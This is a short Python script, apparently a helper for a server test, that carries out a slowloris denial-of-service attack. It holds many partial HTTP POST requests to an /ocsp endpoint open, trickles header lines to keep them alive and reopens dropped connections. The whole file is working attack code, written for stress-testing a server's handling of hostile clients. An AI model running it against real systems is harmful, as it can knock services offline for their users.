#!/usr/bin/env python3
"""A slowloris attacker for the hostile-clients test.

usage: slowloris.py HOST PORT N SECONDS REOPEN_PER_SEC

Opens N connections that each send half a request header, then trickles one
more header line on each every second, so that none ever finishes its
header. Connections the server closes are opened again, at most
REOPEN_PER_SEC a second (the attacker shares the machine with the server, so
its own CPU is kept modest). Every second prints "held H reopened R"; at the
end "done held H reopened R max_held M".
"""
import resource
import socket
import sys
import time

host, port, n, secs, rate = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]), int(sys.argv[5])
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, n + 64), hard))

HEAD = b"POST /ocsp HTTP/1.1\r\nHost: attacker\r\nContent-Type: application/ocsp-request\r\n"


def open_one():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(0.2)
    try:
        s.connect((host, port))
        s.sendall(HEAD)
        s.setblocking(False)
        return s
    except OSError:
        s.close()
        return None


socks = []
reopened = 0
max_held = 0
end = time.time() + secs
budget = float(n)
last = time.time()
next_tick = time.time()
while time.time() < end:
    now = time.time()
    budget = min(float(max(rate, 1)), budget + (now - last) * rate) if socks else budget
    last = now
    # Fill up to N, within the reopening budget.
    while len(socks) < n and budget >= 1 and time.time() < end:
        s = open_one()
        budget -= 1
        if s is None:
            break
        socks.append(s)
        if len(socks) > max_held:
            max_held = len(socks)
    if time.time() >= next_tick:
        next_tick = time.time() + 1.0
        alive = []
        for s in socks:
            try:
                s.send(b"X-Slow: 1\r\n")
                # A closed connection reads EOF.
                try:
                    if s.recv(1, socket.MSG_PEEK) == b"":
                        raise OSError("closed")
                except BlockingIOError:
                    pass
                alive.append(s)
            except OSError:
                s.close()
                reopened += 1
        socks = alive
        print(f"held {len(socks)} reopened {reopened}", flush=True)
    time.sleep(0.02)
print(f"done held {len(socks)} reopened {reopened} max_held {max_held}", flush=True)
